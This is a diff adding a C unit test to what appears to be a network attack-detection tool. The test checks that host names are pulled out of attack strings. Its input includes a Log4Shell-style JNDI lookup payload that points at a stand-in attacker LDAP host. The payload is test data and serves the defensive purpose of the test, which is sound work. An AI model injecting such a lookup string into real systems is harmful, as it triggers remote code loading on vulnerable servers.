@@ -141,6 +141,24 @@ addresses_are_found_in_attacks(void **state)
 	    verdict_addresses(view_of("8.8.8.8 7.7.7.7 6.6.6.6"), a, 2, VERDICT_ADDRS), 3);
 }
 
+static void
+names_are_found_in_attacks(void **state)
+{
+	struct view
+	    v = view_of(
+		"${jndi:ldap://a.Evil.example:1389/x} http://10.0.0.1/ x:// y://nodot b://c.d"),
+	    name;
+	size_t at = 0;
+	(void)state;
+	assert_true(verdict_next_name(v, &at, &name));
+	struct addr one = verdict_name_key(name),
+		    other = verdict_name_key(view_of("A.evil.EXAMPLE"));
+	assert_true(addr_same(&one, &other));
+	assert_true(verdict_next_name(v, &at, &name));
+	assert_int_equal(name.len, 3);
+	assert_false(verdict_next_name(v, &at, &name));
+}
+
 /* ---- a flow ---- */
 
 static const uint8_t outside[4] = { 203, 0, 113, 9 }, inside[4] = { 10, 0, 0, 5 };
@@ -379,6 +397,7 @@ main(void)
 	const struct CMUnitTest tests[] = {
 		TEST(bytes_prove_what_they_prove),
 		TEST(addresses_are_found_in_attacks),
+		TEST(names_are_found_in_attacks),
 		TEST(answers_of_the_web_decide),
 		TEST(the_rules_word_counts),
 		TEST(logins_and_silence_decide),
